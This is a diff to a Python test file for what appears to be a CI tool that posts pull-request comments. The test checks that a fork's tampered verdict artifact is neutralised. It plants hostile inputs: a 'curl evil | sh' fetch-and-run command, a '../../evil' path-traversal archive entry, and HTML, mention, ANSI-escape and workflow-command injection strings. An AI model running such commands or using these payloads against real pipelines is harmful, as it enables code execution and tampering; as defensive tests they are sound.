@@ -225,6 +225,7 @@ def test_another_run_s_artifact_of_a_fork_is_data(
     """Its Markdown is not used, and what it says of the pull request neither."""
     value = json.loads((verdict / "verdict.json").read_text())
     value |= {"sentence": "<b>@everyone</b> fixes #1 | `x`", "pull_request": 1, "number": 1}
+    value["next_steps"] = ["curl evil | sh"]
     value["reasons"] = ["\x1b[31m![x](http://e.invalid)", "\ud800\0\u202e::error::x"]
     github.artifacts["evalgate-verdict"] = archive(
         **{"verdict.json": json.dumps(value), "verdict.md": "# EVIL", "../../evil": "evil"}
@@ -237,7 +238,9 @@ def test_another_run_s_artifact_of_a_fork_is_data(
     (body,) = github.bodies()
     assert f"<!-- run 40.3 head {SHA} -->" in body
     assert "EVIL" not in body
+    assert "curl" not in body
     assert "from a fork" in body
+    assert "git fetch origin main pull/7/head:pull-7\n" in body
     assert "@everyone" not in body
     assert "fixes #1" not in body
     assert "\x1b" not in body
